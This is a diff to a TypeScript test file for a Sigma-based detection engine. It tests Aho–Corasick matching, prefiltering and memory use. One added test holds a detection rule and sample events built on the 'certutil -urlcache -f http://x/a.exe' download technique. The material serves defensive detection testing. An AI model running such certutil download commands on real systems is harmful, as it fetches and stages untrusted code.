@@ -8,6 +8,7 @@ import { AhoCorasick } from '../../src/engine/aho-corasick.js';
 import { requiredLiterals } from '../../src/engine/regex-literals.js';
 import { re2Regex } from '../../src/engine/regex-re2.js';
 import { Detector } from '../../src/engine/detector.js';
+import { EventView } from '../../src/engine/event-access.js';
 import { prepareRules } from '../../src/engine/rulebook.js';
 import { parseSigmaText, emptyCollection, addParsedFile, checkCollection } from '../../src/sigma/load.js';
 import { builtinPipeline } from '../../src/pipeline/builtin.js';
@@ -43,39 +44,52 @@ test('Aho–Corasick finds every occurrence of overlapping patterns', () => {
   assert.deepEqual([...found].sort(), ['e', 'he', 'hers', 'she', '\u{1F600}'].sort());
 });
 
-test('Aho–Corasick never misses a pattern the lower-cased text contains (scan and scanFolded)', () => {
+test('Aho–Corasick never misses a pattern the lower-cased text contains (scan and scanFolded; full rows and sparse states)', () => {
   const rnd = random(7);
   let overSelected = 0;
   for (let round = 0; round < 3000; round++) {
     const patterns = [...new Set(Array.from({ length: 1 + Math.floor(rnd() * 60) }, () => text(rnd, 5).toLowerCase()).filter((p) => p))];
     const t = text(rnd, 40);
     const lower = t.toLowerCase();
-    const ac = new AhoCorasick(patterns);
     const want = patterns.flatMap((p, i) => (lower.includes(p) ? [i] : []));
-    const got = new Set<number>();
-    ac.scan(lower, (id) => got.add(id));
-    for (const i of want) assert.ok(got.has(i), `scan missed ${JSON.stringify(patterns[i])} in ${JSON.stringify(t)}`);
-    overSelected += got.size - want.length;
-    const folded = new Set<number>();
-    if (ac.scanFolded(t, (id) => folded.add(id))) {
-      assert.ok(/^[\x00-\x7f]*$/.test(t), 'scanFolded reads ASCII text only');
-      assert.deepEqual([...folded].sort(), want, `scanFolded on ${JSON.stringify(t)}`);
-    } else assert.ok(/[^\x00-\x7f]/.test(t), 'scanFolded gives up only on non-ASCII text');
+    // Every state with a full row; then the root alone, so that every other step is a sparse one.
+    for (const ac of [new AhoCorasick(patterns), new AhoCorasick(patterns, 1)]) {
+      const got = new Set<number>();
+      ac.scan(lower, (id) => got.add(id));
+      for (const i of want) assert.ok(got.has(i), `scan missed ${JSON.stringify(patterns[i])} in ${JSON.stringify(t)}`);
+      overSelected += got.size - want.length;
+      const folded = new Set<number>();
+      if (ac.scanFolded(t, (id) => folded.add(id))) {
+        assert.ok(/^[\x00-\x7f]*$/.test(t), 'scanFolded reads ASCII text only');
+        assert.deepEqual([...folded].sort((a, b) => a - b), want, `scanFolded on ${JSON.stringify(t)}`);
+      } else assert.ok(/[^\x00-\x7f]/.test(t), 'scanFolded gives up only on non-ASCII text');
+    }
   }
   // Over 32 non-ASCII characters share columns: some texts report a pattern they lack (allowed).
   assert.ok(overSelected > 0, 'shared columns over-select somewhere in 3000 rounds');
 });
 
-test('Aho–Corasick splits a pattern set too big for one table and still finds every pattern', () => {
+test('Aho–Corasick reports every id of a pattern given twice, and refuses an empty pattern', () => {
+  const ac = new AhoCorasick(['abc', 'bc', 'abc', 'c'], 1);
+  const got: number[] = [];
+  assert.ok(ac.scanFolded('xABCx', (id) => got.push(id)));
+  assert.deepEqual(got.sort(), [0, 1, 2, 3]);
+  assert.throws(() => new AhoCorasick(['a', '']), /empty pattern/);
+});
+
+test('Aho–Corasick on a large pattern set (hash tails): memory linear in the patterns, every pattern found', () => {
   const rnd = random(11);
-  const printable = Array.from({ length: 95 }, (_, i) => String.fromCharCode(32 + i).toLowerCase());
-  const patterns = Array.from({ length: 8000 }, () => Array.from({ length: 12 }, () => printable[Math.floor(rnd() * 95)]).join(''));
+  const hex = '0123456789abcdef';
+  const patterns = Array.from({ length: 8000 }, () => Array.from({ length: 12 }, () => hex[Math.floor(rnd() * 16)]).join(''));
   const ac = new AhoCorasick(patterns);
-  assert.ok((ac as unknown as { parts: unknown[] }).parts.length > 1, 'more than one table');
+  // About 76,000 states: a full row each would be 76,000 × 17 columns × 4 bytes = 5.2 MB; sparse
+  // states cost 18 bytes each, the capped full rows 384 KiB.
+  assert.ok(ac.bytes < 2_000_000, `${ac.bytes} bytes`);
   for (const i of [0, 1234, 4000, 7999]) {
     const found = new Set<number>();
-    assert.ok(ac.scanFolded(`xx${patterns[i]!.toUpperCase()}yy`, (id) => found.add(id)));
-    assert.ok(found.has(i), `pattern ${i} found`);
+    assert.ok(ac.scanFolded(`sha256=${patterns[(i + 1) % 8000]!.toUpperCase()}${patterns[i]!.toUpperCase()},md5=0`, (id) => found.add(id)));
+    assert.ok(found.has(i) && found.has((i + 1) % 8000), `patterns ${i} and ${(i + 1) % 8000} found`);
+    for (const id of found) assert.ok(`sha256=${patterns[(i + 1) % 8000]}${patterns[i]},md5=0`.includes(patterns[id]!), `pattern ${id} reported and present`);
   }
 });
 
@@ -205,6 +219,37 @@ test('the prefilter keeps exactly the plain path detections: keywords in nested 
     total += b.length;
   }
   assert.equal(total, 10, 'the events do match');
+});
+
+test('a rule with literals in several conjuncts wakes only when each has one in the event', () => {
+  const yaml = `title: image and command line
+logsource: {product: test}
+detection:
+  img: {Image|endswith: ['\\\\certutil.exe', '\\\\certreq.exe']}
+  cli: {CommandLine|contains: ['urlcache', 'verifyctl']}
+  cond: {CommandLine|re: 'http[s]?://'}
+  condition: img and cli and cond
+`;
+  const col = emptyCollection();
+  addParsedFile(col, parseSigmaText(yaml, 'rules.yml'));
+  checkCollection(col);
+  const set = prepareRules(col, { pipelines: [], regex: re2Regex }).set;
+  const plain = new Detector(set, { regex: re2Regex, prefilter: false });
+  const cases: Array<[Record<string, unknown>, boolean, boolean]> = [
+    // event, woken by the prefilter, matched
+    [{ Image: 'C:\\Windows\\certutil.exe', CommandLine: 'certutil -urlcache -f http://x/a.exe' }, true, true],
+    [{ Image: 'C:\\Windows\\certutil.exe', CommandLine: 'certutil -hashfile a.exe' }, false, false],
+    [{ Image: 'C:\\Windows\\cmd.exe', CommandLine: 'certutil -urlcache -f http://x/a.exe' }, false, false],
+    [{ Image: 'C:\\Windows\\CERTREQ.EXE', CommandLine: 'x VERIFYCTL https://y' }, true, true],
+    // The regex's required literal (http) is a third group.
+    [{ Image: 'C:\\Windows\\certreq.exe', CommandLine: 'verifyctl no url' }, false, false],
+    [{ Image: 'C:\\Windows\\certreq.exe', CommandLine: 'verifyctl http:/broken' }, true, false],
+  ];
+  for (const [event, woken, matched] of cases) {
+    assert.equal(set.prefilter.scan(new EventView(structuredClone(event))).allows(0), woken, JSON.stringify(event));
+    assert.equal(new Detector(set, { regex: re2Regex }).next(structuredClone(event)).matches.length, matched ? 1 : 0, JSON.stringify(event));
+    assert.equal(plain.next(structuredClone(event)).matches.length, matched ? 1 : 0, JSON.stringify(event));
+  }
 });
 
 test('a guard is taken as proven by the index only when it says nothing more than channel and event id', () => {
